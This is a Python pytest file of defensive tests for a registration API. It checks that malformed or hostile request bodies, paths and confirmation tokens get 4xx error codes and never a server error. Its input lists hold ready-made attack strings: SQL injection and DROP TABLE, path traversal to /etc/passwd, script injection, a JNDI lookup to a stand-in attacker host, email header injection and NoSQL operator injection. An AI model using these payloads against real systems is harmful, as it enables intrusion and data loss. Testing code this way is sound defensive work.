"""The public registration endpoints are hostile ground: whatever comes in gets a 4xx with a machine-readable
code, never a 500, and nothing is recorded for it."""

from __future__ import annotations

import json
from uuid import uuid4

import pytest

from tests.journeys.test_registration_support import random_ip

pytestmark = pytest.mark.journey


def body(**over) -> dict:
    return {
        "customer_number": "10001",
        "invoice_number": "R-10001-1",
        "email": "anna@example.com",
        "first_name": "Anna",
        "last_name": "Muster",
        "language": "de",
        **over,
    }


HOSTILE_BODIES = [
    b"{not json",
    b"\x00\xff\xfe",
    b"[]",
    b"null",
    b'"a string"',
    b"[" * 100_000,
    json.dumps(body(customer_number=10001)).encode(),
    json.dumps(body(customer_number={"$gt": ""})).encode(),
    json.dumps(body(customer_number="1" * 500_000)).encode(),
    json.dumps(body(customer_number="10001' OR '1'='1")).encode(),
    json.dumps(body(invoice_number="R-1; DROP TABLE registrations; --")).encode(),
    json.dumps(body(invoice_number="../../etc/passwd")).encode(),
    json.dumps(body(first_name="<script>alert(1)</script>")).encode(),
    json.dumps(body(first_name="${jndi:ldap://evil.example/a}")).encode(),
    json.dumps(body(last_name="Muster\r\nBcc: victim@example.com")).encode(),
    json.dumps(body(last_name="Muster\u0000")).encode(),
    json.dumps(body(last_name="\u202eretsuM")).encode(),
    json.dumps(body(email="anna@example.com\r\nBcc: victim@example.com")).encode(),
    json.dumps(body(email="not-an-address")).encode(),
    json.dumps(body(email=True)).encode(),
    json.dumps(body(language="xx")).encode(),
    json.dumps({**body(), "status": "completed"}).encode(),
    json.dumps({k: v for k, v in body().items() if k != "email"}).encode(),
]


@pytest.mark.parametrize("raw", HOSTILE_BODIES, ids=range(len(HOSTILE_BODIES)))
async def test_hostile_registration_bodies_get_4xx_never_500(gateway, raw):
    r = await gateway.post(
        "/api/registrations",
        content=raw,
        headers={"Content-Type": "application/json", "X-Forwarded-For": random_ip()},
    )
    assert 400 <= r.status_code < 500, r.text
    assert r.json()["error"]["code"]


async def test_a_body_over_the_gateways_limit_gets_413(gateway):
    r = await gateway.post(
        "/api/registrations",
        content=b'{"a": "' + b"x" * 2_000_000 + b'"}',
        headers={"Content-Type": "application/json"},
    )
    assert r.status_code == 413
    assert r.json()["error"]["code"] == "payload_too_large"


@pytest.mark.parametrize(
    ("path", "payload"),
    [
        ("/api/registrations/not-a-uuid", None),
        ("/api/registrations/' OR 1=1 --", None),
        ("/api/registrations/" + "9" * 4000, None),
        (f"/api/registrations/{uuid4()}", None),
        (f"/api/registrations/{uuid4()}/confirm", {"token": 12345}),
        (f"/api/registrations/{uuid4()}/confirm", {"token": "x" * 100_000}),
        (f"/api/registrations/{uuid4()}/confirm", {"token": "abc' OR '1'='1"}),
        (f"/api/registrations/{uuid4()}/confirm", {"token": "abc\u0000"}),
        (f"/api/registrations/{uuid4()}/confirm", {"token": "valid-looking-token", "extra": 1}),
        (f"/api/registrations/{uuid4()}/confirm", {"token": "valid-looking-token"}),
        ("/api/registrations/not-a-uuid/confirm", {"token": "abc"}),
    ],
)
async def test_hostile_reads_and_confirmations_get_4xx_never_500(gateway, path, payload):
    r = await (gateway.get(path) if payload is None else gateway.post(path, json=payload))
    assert 400 <= r.status_code < 500, r.text
    assert r.json()["error"]["code"]
